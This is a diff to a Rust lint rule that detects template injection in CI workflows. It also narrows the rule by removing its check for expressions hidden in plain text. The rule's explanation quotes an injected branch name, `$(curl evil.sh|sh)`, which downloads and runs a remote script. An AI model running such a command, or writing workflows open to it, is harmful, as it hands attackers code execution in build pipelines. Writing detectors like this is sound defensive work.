@@ -18,8 +18,7 @@ pub(super) static RULE: Rule = Rule {
     id: "template-injection",
     summary: "a value becomes part of a program's text",
     why: "An expression is replaced before the shell reads the script, so a branch called `$(curl evil.sh|sh)` is a command. \
-          A value that comes in through the environment stays a value: write `env.TITLE = 'Branch` and `\"$TITLE\"`. An \
-          expression hidden in a text is seen by no check, so it has no place there either.",
+          A value that comes in through the environment stays a value: write `env.TITLE = 'Branch` and `\"$TITLE\"`.",
     severity: Severity::Error,
     settings: "",
     refused: &[Refused { kind: FaultKind::Contract, path: "jobs/*/steps/*/run" }],
@@ -34,7 +33,6 @@ pub(super) static RULE: Rule = Rule {
             "ci",
             r#"{ jobs.test.steps = [{ uses = "Actions/GitHub-Script", with.script = ["console.log('", 'Branch, "')"] }] }"#,
         )]),
-        Example::bad(&[("ci", r#"{ jobs.test.env.TITLE = "${{ github.event.pull_request.title }}" }"#)]),
         Example::good(&[("ci", r#"{ jobs.test.steps = [{ run = "echo \"$HEAD\"", env.HEAD = 'Branch }] }"#)]),
         Example::good(&[(
             "ci",
@@ -62,14 +60,9 @@ fn check(scope: &Scope<'_>, findings: &mut Findings) {
         let code = CODE
             .iter()
             .any(|(name, field)| action.is_some_and(|action| action.eq_ignore_ascii_case(name)) && held.field == *field);
-        for part in &held.value.parts {
-            let message = match &part.value {
-                Part::Text(text) if text.contains("${{") => "an expression is hidden in a text",
-                Part::Reference(_) if code => "this input is run as code",
-                _ => continue,
-            };
+        for part in held.value.parts.iter().filter(|part| code && matches!(part.value, Part::Reference(_))) {
             findings
-                .report(held.spot.identity(), part.origin, message)
+                .report(held.spot.identity(), part.origin, "this input is run as code")
                 .key(held.field.clone())
                 .help("write a reference such as 'Branch or 'Input \"name\", and hand it over through `env`");
         }
